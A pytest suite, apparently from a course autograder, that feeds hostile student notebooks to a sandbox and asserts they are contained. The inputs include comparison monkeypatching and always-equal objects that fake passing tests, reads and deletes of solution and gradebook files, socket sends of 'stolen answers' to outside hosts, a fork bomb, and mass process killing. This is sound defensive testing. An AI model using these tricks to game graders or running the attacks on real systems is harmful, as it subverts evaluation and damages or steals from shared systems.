"""Hostile and broken submissions: each gets the grade its code earns and a clear status,
reveals nothing hidden, and changes nothing outside its own sandbox.

All use param_count; most grade only the cheap cell `test_textbook_rnn_params` (the mistake
under test is there) plus one more cell that must still pass.
"""
import json
import os
import socket
import textwrap
import threading

import pytest

from autograder import synthetic
from autograder.course import KIT_ROOT
from autograder.grading.launchers import default_launcher
from autograder.grading.results import ERROR, FAILED, PASSED, TIMEOUT
from tests.conftest import explain, grade_text, released_notebook

pytestmark = pytest.mark.sandbox  # run again by CI with bubblewrap hidden

NAME = "param_count"
TARGET, OTHER = "test_textbook_rnn_params", "test_tagger_params"
CHEAP = [TARGET, OTHER]


@pytest.fixture(scope="module")
def released(kit):
    return released_notebook(kit, NAME)


def status_of(result, grade_id):
    return next(cell.status for cell in result.cells if cell.grade_id == grade_id)


def messages(result, grade_id):
    return " ".join(t.message for c in result.cells if c.grade_id == grade_id for t in c.tests)


def hostile(kit, released, tmp_path, code, only=CHEAP, timeout=None, base=synthetic.perfect):
    """Grade the reference notebook (or `base`) with `code` appended as one more cell."""
    notebook = json.loads(base(NAME, released))
    notebook["cells"].append({"cell_type": "code", "execution_count": None, "metadata": {},
                              "outputs": [], "source": textwrap.dedent(code)})
    return grade_text(kit, NAME, json.dumps(notebook), tmp_path, only=only, timeout=timeout)


def assert_only_target(result, status):
    assert status_of(result, TARGET) == status, (
        f"expected {TARGET} to be {status}, got {status_of(result, TARGET)}:\n{explain(result)}")
    assert status_of(result, OTHER) == PASSED, (
        f"one hostile function must not cost the other cells their marks:\n{explain(result)}")


WRONG = "def textbook_rnn_params(input_size, hidden_size, output_size):\n    return 0\n"


@pytest.mark.parametrize("patch", [
    "numpy.allclose = lambda *a, **k: True",
    "numpy.testing.assert_allclose = lambda *a, **k: None\nnumpy.array_equal = lambda *a, **k: True",
    "torch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True",
    "torch.testing.assert_close = lambda *a, **k: None",
    "import builtins, sys\nbuiltins.AssertionError = Exception\nbuiltins.abs = lambda x: 0\n"
    "builtins.max = lambda *a, **k: 0\nsys.excepthook = lambda *a: None",
], ids=["numpy.allclose", "numpy.testing", "torch.allclose", "torch.testing", "builtins"])
def test_monkeypatching_comparisons_changes_nothing(kit, released, tmp_path, patch):
    result = hostile(kit, released, tmp_path, f"import numpy, numpy.testing, torch, torch.testing\n{patch}\n{WRONG}")
    assert_only_target(result, FAILED)


@pytest.mark.parametrize("liar", [
    "class Liar(int):\n    def __eq__(self, other): return True\n    __hash__ = int.__hash__\nreturn Liar(0)",
    "import numpy as np\nclass Liar(np.ndarray):\n    def __eq__(self, other): return True\n"
    "    def __ne__(self, other): return False\nreturn np.zeros(1).view(Liar)",
    "class Liar:\n    def __eq__(self, other): return True\n    def __int__(self): return 0\nreturn Liar()",
], ids=["int-subclass", "ndarray-subclass", "plain-object"])
def test_objects_that_claim_equality_fail(kit, released, tmp_path, liar):
    body = textwrap.indent(liar, "    ")
    result = hostile(kit, released, tmp_path, f"def textbook_rnn_params(input_size, hidden_size, output_size):\n{body}\n")
    assert_only_target(result, FAILED)


def test_printing_all_tests_passed_earns_nothing(kit, released, tmp_path):
    code = """
    import sys
    print("All tests passed! Score: 8/8")
    print("All tests passed!", file=sys.stderr)
    def textbook_rnn_params(input_size, hidden_size, output_size):
        print("test_textbook_rnn_params ... ok\\nAll tests passed!")
        return 0
    """
    result = hostile(kit, released, tmp_path, code)
    assert_only_target(result, FAILED)
    assert "All tests passed" in result.stdout, "the student's own output is kept, for the instructor"


@pytest.mark.parametrize("exit_call, status", [
    ("import sys; sys.exit(0)", ERROR),
    ("raise SystemExit(0)", ERROR),
    ("raise KeyboardInterrupt", ERROR),
    ("import os; os._exit(0)", ERROR),
    ("import os, signal; os.kill(os.getpid(), signal.SIGKILL)", ERROR),
], ids=["sys.exit", "SystemExit", "KeyboardInterrupt", "os._exit", "SIGKILL-self"])
def test_exiting_inside_a_function_errors_that_test_only(kit, released, tmp_path, exit_call, status):
    code = f"def textbook_rnn_params(input_size, hidden_size, output_size):\n    {exit_call}\n"
    result = hostile(kit, released, tmp_path, code)
    assert_only_target(result, status)


def test_exiting_while_loading_is_an_error_for_every_cell(kit, released, tmp_path):
    result = hostile(kit, released, tmp_path, "import os\nos._exit(0)\n")
    assert {cell.status for cell in result.cells} == {ERROR}, explain(result)
    assert result.score == 0 and "did not finish loading" in " ".join(result.problems), explain(result)


def test_sys_exit_in_a_cell_is_reported_and_the_rest_still_scores(kit, released, tmp_path):
    result = hostile(kit, released, tmp_path, "import sys\nsys.exit('bye')\n")
    assert result.score == result.max_score, explain(result)
    assert any("SystemExit" in problem for problem in result.problems), result.problems


def test_signal_handlers_do_not_stop_the_timeout(kit, released, tmp_path):
    code = """
    import signal
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGALRM):
        signal.signal(sig, signal.SIG_IGN)
    def textbook_rnn_params(input_size, hidden_size, output_size):
        while True:
            pass
    """
    result = hostile(kit, released, tmp_path, code, timeout=3)
    assert_only_target(result, TIMEOUT)
    assert "more than 3 s" in messages(result, TARGET)


def test_infinite_loop_times_out_only_its_own_test(kit, released, tmp_path):
    code = "def textbook_rnn_params(input_size, hidden_size, output_size):\n    while True:\n        pass\n"
    result = hostile(kit, released, tmp_path, code, timeout=3)
    assert_only_target(result, TIMEOUT)
    assert result.score == result.max_score - 1  # textbook_rnn_params is worth one point


@pytest.fixture
def course_files(tmp_path):
    """A stand-in course beside the submission: a gradebook and another student's work."""
    other = tmp_path / "submitted" / "other-student" / NAME / f"{NAME}.ipynb"
    other.parent.mkdir(parents=True)
    other.write_text("other student's work")
    gradebook = tmp_path / "gradebook.db"
    gradebook.write_bytes(b"SQLite format 3\0 grades")
    return {"gradebook": gradebook, "other": other}


def test_cannot_read_or_write_the_course(kit, released, tmp_path, course_files, isolation):
    if not isolation.hides_course:
        # CI runs as root, where both sandboxes hide the course: there this must not skip.
        assert not os.environ.get("CI"), f"CI must grade behind a wall that hides the course: {isolation}"
        pytest.skip(f"the {isolation.kind} sandbox does not hide the course (as its banner says)")
    secrets = [KIT_ROOT / "solutions" / f"{NAME}.py", KIT_ROOT / "autograder" / "hidden" / f"{NAME}.py",
               KIT_ROOT / "assignments" / NAME / f"{NAME}.ipynb", course_files["gradebook"], course_files["other"]]
    code = f"""
    import os, sys
    for path in {[str(p) for p in secrets]!r}:
        try:
            print("LEAKED", path, open(path).read()[:20])
        except OSError as error:
            print("BLOCKED", path, type(error).__name__)
        for mode in ("w", "a"):
            try:
                open(path, mode).write("owned")
                print("WROTE", path)
            except OSError:
                pass
        try:
            os.remove(path)
            print("DELETED", path)
        except OSError:
            pass
    sys.path.insert(0, {str(KIT_ROOT)!r})
    try:
        from solutions.param_count import *  # noqa
        print("LEAKED the reference")
    except ImportError:
        print("BLOCKED reference")
    """
    result = hostile(kit, released, tmp_path, code, base=synthetic.untouched)
    assert result.score == 0, f"the untouched stub must score 0, whatever it tried:\n{explain(result)}"
    for word in ("LEAKED", "WROTE", "DELETED"):
        assert word not in result.stdout, f"the sandbox let the student's code do this:\n{result.stdout}"
    assert result.stdout.count("BLOCKED") == len(secrets) + 1, result.stdout
    assert course_files["gradebook"].read_bytes() == b"SQLite format 3\0 grades"
    assert course_files["other"].read_text() == "other student's work"


def test_no_network(kit, released, tmp_path, isolation):
    if not isolation.no_network:
        pytest.skip(f"the {isolation.kind} sandbox leaves the network open (as its banner says)")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    received = []

    def accept():
        try:
            connection, _ = listener.accept()
            received.append(connection.recv(100))
        except OSError:
            pass

    thread = threading.Thread(target=accept)
    thread.start()
    code = f"""
    import socket
    for address in [("127.0.0.1", {port}), ("1.1.1.1", 80), ("pypi.org", 443)]:
        try:
            socket.create_connection(address, timeout=1).sendall(b"stolen answers")
            print("CONNECTED", address)
        except OSError as error:
            print("no network", address, type(error).__name__)
    """
    result = hostile(kit, released, tmp_path, code)
    thread.join()
    listener.close()
    assert received == [] and "CONNECTED" not in result.stdout, result.stdout
    assert result.score == result.max_score


def processes_of(uid):
    found = []
    for entry in os.listdir("/proc"):
        try:
            if entry.isdigit() and os.stat(f"/proc/{entry}").st_uid == uid:
                found.append(int(entry))
        except OSError:
            pass
    return found


def test_fork_bomb_is_contained_and_cleaned_up(kit, released, tmp_path):
    code = """
    import os
    def textbook_rnn_params(input_size, hidden_size, output_size):
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """
    result = hostile(kit, released, tmp_path, code, timeout=3)
    assert_only_target(result, TIMEOUT)
    launcher = default_launcher()
    launcher.settle()  # a kill is not waited for; the server has finished it before the next fork
    uid = launcher.info.get("uid")
    if uid is not None:
        assert processes_of(uid) == [], "processes of the fork bomb outlived its test"


def test_the_next_submission_starts_only_once_the_last_ones_processes_are_gone():
    # Ending a submission is not waited for (the grader goes on to the next one meanwhile), so
    # the order is the fork server's to keep: a process the last submission left behind, in a
    # session of its own, must be gone before the next submission's first line runs.
    from autograder.grading.remote import RemoteNamespace
    from autograder.grading.session import Session

    leave_one_behind = (0, textwrap.dedent("""
        import os, time
        ready, done = os.pipe()
        if os.fork() == 0:
            os.setsid()  # out of the worker's process group: only the sweep by uid finds it
            os.write(done, b"!")
            time.sleep(60)
        os.read(ready, 1)
    """))
    look = (0, textwrap.dedent("""
        import os
        def others():
            mine = []
            for entry in os.listdir("/proc"):
                try:
                    with open(f"/proc/{entry}/stat") as stat:
                        fields = stat.read().rsplit(")", 1)[1].split()
                    if fields[0] not in "ZX" and os.stat(f"/proc/{entry}").st_uid == os.getuid() \\
                            and int(entry) != os.getpid() and int(fields[3]) != os.getsid(0):
                        mine.append(int(entry))
                except (OSError, ValueError):
                    pass
            return mine
    """))
    for _ in range(3):
        session = Session([leave_one_behind])
        session.start()
        session.close()
        if not session.launcher.isolation.own_uid:
            pytest.skip(f"the {session.launcher.isolation.kind} sandbox has no uid of its own: its "
                        "processes are swept by session")
        session = Session([look])
        try:
            session.start()
            assert RemoteNamespace(session, session.setup_report["names"]).others() == [], (
                "a process of the previous submission was still running when the next one started")
        finally:
            session.close()


def test_killing_every_process_in_sight_spares_the_next_submission(kit, released, tmp_path, isolation):
    # Among what a submission sees: the fork server and the next child, forked ahead and
    # waiting for its submission. Neither is the submission's to signal.
    if not isolation.own_pids:
        pytest.skip(f"the {isolation.kind} sandbox shares the grader's processes (as its banner says): "
                    "this submission would kill the test run itself")
    code = """
    import os, signal
    def textbook_rnn_params(input_size, hidden_size, output_size):
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                try:
                    os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
        return 0
    """
    hostile(kit, released, tmp_path / "hostile", code)
    honest = grade_text(kit, NAME, synthetic.perfect(NAME, released), tmp_path / "next", only=CHEAP)
    assert honest.score == honest.max_score, f"the next submission lost marks:\n{explain(honest)}"


def test_allocating_50_gb_is_a_memory_error(kit, released, tmp_path):
    code = """
    import numpy as np
    def textbook_rnn_params(input_size, hidden_size, output_size):
        return int(np.ones(50 * 2**30 // 8).sum())
    """
    result = hostile(kit, released, tmp_path, code)
    assert_only_target(result, ERROR)
    assert "MemoryError" in messages(result, TARGET), explain(result)


def test_flooding_stdout_and_stderr_is_cut(kit, released, tmp_path):
    code = """
    import sys
    line = "spam " * 200 + "\\n"
    for _ in range(100_000):  # 100 MB each way, more than the per-file limit
        sys.stdout.write(line)
        sys.stderr.write(line)
    """
    result = hostile(kit, released, tmp_path, code)
    assert result.score == result.max_score, explain(result)
    assert len(result.stdout) <= 20_000 and len(result.stderr) <= 20_000
    assert any("File too large" in problem for problem in result.problems), result.problems


def test_writing_gigabytes_to_disk_is_stopped_early(kit, released, tmp_path):
    code = """
    def textbook_rnn_params(input_size, hidden_size, output_size):
        chunk = b"x" * (1 << 20)
        with open("big.bin", "wb") as out:
            for _ in range(4096):  # 4 GB
                out.write(chunk)
        return 0
    """
    result = hostile(kit, released, tmp_path, code)
    assert_only_target(result, ERROR)
    assert "File too large" in messages(result, TARGET), explain(result)
    assert not list(tmp_path.rglob("big.bin")), "the student's file must stay in the sandbox"


def broken(kit, released, tmp_path, text):
    path = tmp_path / "student" / NAME / f"{NAME}.ipynb"
    path.parent.mkdir(parents=True)
    path.write_bytes(text)
    from autograder.grading.engine import grade_notebook

    return grade_notebook(kit.assignment(NAME), "student", path, only=CHEAP)


@pytest.mark.parametrize("mangle, words", [
    (lambda text: text[:-100], "not valid JSON"),
    (lambda text: text.replace('"nbformat": 4', '"nbformat": 5'), "nbformat version 5"),
    (lambda text: text.replace("def rnn_params", "def rnn_params_\xe9").encode("latin-1"), "not UTF-8"),
], ids=["invalid-json", "future-nbformat", "non-utf8"])
def test_unreadable_notebooks_error_with_a_reason(kit, released, tmp_path, mangle, words):
    text = synthetic.perfect(NAME, released)
    raw = mangle(text)
    result = broken(kit, released, tmp_path, raw if isinstance(raw, bytes) else raw.encode())
    assert result.score == 0 and {cell.status for cell in result.cells} == {ERROR}, explain(result)
    assert words in " ".join(result.problems), result.problems


@pytest.mark.parametrize("build", [synthetic.deleted_test_cell, synthetic.duplicated_test_cell],
                         ids=["deleted", "duplicated"])
def test_deleted_or_duplicated_grade_cells_are_graded_from_the_source(kit, released, tmp_path, build):
    result = grade_text(kit, NAME, build(NAME, released), tmp_path, only=CHEAP)
    assert [cell.grade_id for cell in result.cells] == CHEAP, explain(result)
    assert result.score == result.max_score, explain(result)


def test_edited_locked_test_cells_are_ignored(kit, released, tmp_path):
    notebook = json.loads(synthetic.untouched(NAME, released))
    for cell in notebook["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            cell["source"] = "pass  # tests removed\n"
            cell["metadata"]["nbgrader"]["points"] = 100
    result = grade_text(kit, NAME, json.dumps(notebook), tmp_path, only=CHEAP)
    assert result.score == 0 and result.max_score == 3, explain(result)


def test_links_in_the_submission_folder_carry_nothing_in(kit, released, tmp_path):
    from autograder.grading.engine import grade_notebook

    secret = tmp_path / "gradebook.db"
    secret.write_text("SECRET GRADES")
    folder = tmp_path / "student" / NAME
    folder.mkdir(parents=True)
    (folder / "data.txt").write_text("the student's own data")
    (folder / "answers.txt").symlink_to(secret)
    notebook = json.loads(synthetic.perfect(NAME, released))
    notebook["cells"].append({"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
                              "source": "import os\nprint(sorted(os.listdir('.')))\nprint(open('data.txt').read())\n"
                                        "try:\n    print(open('answers.txt').read())\nexcept OSError:\n"
                                        "    print('no link')\n"})
    (folder / f"{NAME}.ipynb").write_text(json.dumps(notebook))
    result = grade_notebook(kit.assignment(NAME), "student", folder / f"{NAME}.ipynb", only=CHEAP)
    assert "the student's own data" in result.stdout, "the submission's own files are in its working directory"
    assert "SECRET" not in result.stdout and "no link" in result.stdout, result.stdout
